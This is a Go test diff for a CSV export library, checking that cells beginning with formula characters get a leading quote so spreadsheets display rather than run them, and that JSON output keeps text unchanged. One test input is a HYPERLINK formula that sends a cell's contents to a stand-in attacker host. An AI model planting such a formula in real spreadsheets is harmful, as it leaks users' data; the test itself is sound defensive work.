@@ -209,3 +209,51 @@ func TestParseFormat(t *testing.T) {
 		t.Error("pdf accepted")
 	}
 }
+
+// TestCSVFormulas: a Text cell that starts like a formula (= + - @ tab
+// CR) gets a leading ' in CSV, so that a spreadsheet shows it instead of
+// running it; plain strings (a phone in E.164, an amount) are written as
+// they are, and the other formats write Text unchanged.
+func TestCSVFormulas(t *testing.T) {
+	cols := []string{"body", "name", "note", "phone", "amount", "tab", "cr", "plus", "inner", "empty"}
+	attack := `=HYPERLINK("http://attacker.example/?x="&A1,"Click")`
+	row := []any{export.Text(attack), export.Text("@SUM(A1)"), export.Text("-2 degrees"), "+14155550100", "-10.30",
+		export.Text("\t=1+1"), export.Text("\r=1+1"), export.Text("+1 call me"), export.Text("x =1+1"), export.Text("")}
+	var buf bytes.Buffer
+	w, err := export.New(&buf, export.CSV, cols)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Row(row); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	got, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+	if err != nil || len(got) != 2 {
+		t.Fatalf("csv = %q, %v", got, err)
+	}
+	want := []string{"'" + attack, "'@SUM(A1)", "'-2 degrees", "+14155550100", "-10.30",
+		"'\t=1+1", "'\r=1+1", "'+1 call me", "x =1+1", ""}
+	for i, c := range cols {
+		if got[1][i] != want[i] {
+			t.Errorf("%s = %q; want %q", c, got[1][i], want[i])
+		}
+	}
+
+	var arr []map[string]any
+	buf.Reset()
+	if w, err = export.New(&buf, export.JSON, cols); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Row(row); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := json.Unmarshal(buf.Bytes(), &arr); err != nil || len(arr) != 1 || arr[0]["body"] != attack || arr[0]["name"] != "@SUM(A1)" {
+		t.Errorf("json = %s, %v; want Text unchanged", buf.Bytes(), err)
+	}
+}
